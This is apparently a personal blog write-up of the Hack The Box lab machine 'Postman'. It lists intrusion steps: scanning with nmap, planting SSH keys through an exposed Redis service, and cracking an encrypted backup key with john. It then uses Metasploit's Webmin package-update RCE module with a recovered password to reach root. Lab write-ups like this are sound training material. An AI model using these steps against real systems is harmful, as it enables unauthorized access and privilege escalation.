Postman Write-up (HTB)

Postman Write-up (HTB)


3 min read

Hello Everyone, this is my very first public write-up for any HTB machine. Please feel free to reach out for any suggestions / improvement in either the methodology or thisparticular documentation.

HTB Profile


I prefer to first perform a stealth scan for all the ports and then perform an extensive scan for the open ones. Thus, below we proceed on with an extensive scan of the open ports found from a Full SYN Scan (nmap -p-

nmap -sC -sV -p0–10000 -oN nmapres


As we can see over here that we got 4 ports running various services. Hence my thought process proceeds like:

  1. To access ssh, we’d require a set of credentials which rules out it’s current scope of exploit-ability.
  2. We have got a website running at port 80, but on visiting and enumerating it using a tool called dirsearch, we don’t find anything of use:

./ -u -e txt,php

3. The odd port, 6379 running redis does arouse our curiosity and makes us, to go behind it.

4. The port number 10,000 is running webmin. This could also be of interest.

  • Read online about redis and how it can be accessed with the cli utility ‘redis-cli’.
  • Also discovered that the user for this functionality is ‘redis’. (Information Gathering from Documentation)

On researching online a bit, stumbling through different references, I found this link which proved to be very helpful.

Followed the same methodology to put my ssh keysinto the remote server and logged in using the command:

ssh -i id_rsa redis@

As we can follow along well, we get a redis command prompt and can roam around with “redis” user permissions but the user is still not accessible but on enumerating a bit we can find that the useraccess can be achieved by gaining password for a user named ‘Matt’.

Also, here we do come across an interesting log in the “.bash_history” file, which mentions the “id_rsa.bak” file.

We can download this backup ssh key and since it’s encrypted, it means there is a password and if there is a password then we are interested in it. So we will be cracking it using our very dear JOHN tool but before that we need to convert it into a readable format for john since it cannot read .bak files.

ssh2john id_rsa.bak > id_rsa_john

Hence we use a tool from github:- ssh2john, to convert it into a brute-forcible format (id_rsa_john) and pass it to john using the following syntax:

john --wordlist=rockyou.txt id_rsa_john

This is our end result and here we got the password as ‘computer2008’.

Owning the USER:

Toown the user, we try this password everywhere. Since we earlier discovered that there is a user named as ‘Matt’, we try toswitch to this user using this password and this is what we get:

As we got root, now we can move on for root user.

Owning the ROOT:

Earlier while enumerating about the target, we discovered that there is an Remote Code Execution (RCE) module in metasploit that can help us escalate privilege. You can find it here.

Following the same and running metasploit by typing-in ‘msfconsole’:

>use exploit/linux/http/webmin_packageup_rce

>set rhosts

>set username Matt

>set password computer2008>set ssl true

>set lhost


And there we get ameterpreter shell, leading us tothe root.txt file.

Thank you so much for reading, would love to have your views on this.

~Mrigendra Soni

Did you find this article valuable?Support hexbyte by becominga sponsor. Any amount is appreciated!